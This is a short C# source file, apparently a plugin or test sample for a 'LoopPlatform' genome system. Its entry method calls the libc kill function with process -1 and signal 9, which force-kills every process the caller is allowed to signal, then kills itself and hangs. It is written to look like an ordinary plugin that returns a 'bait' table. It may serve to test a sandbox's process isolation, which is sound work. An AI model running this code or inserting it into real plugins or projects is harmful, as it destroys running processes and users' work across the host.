using System.Runtime.InteropServices;
using System.Threading;
using LoopPlatform.Genomes;

/// <summary>To the kernel -1 is every process the caller may signal; the caller itself is left out, so it follows.</summary>
public static class SignalEverybody
{
    public static Table Run(Tables inputs)
    {
        Kill(-1, 9);
        Kill(Self(), 9);
        Thread.Sleep(Timeout.Infinite);
        return inputs["bait"];
    }

    [DllImport("libc", EntryPoint = "kill")]
    private static extern int Kill(int process, int signal);

    [DllImport("libc", EntryPoint = "getpid")]
    private static extern int Self();
}
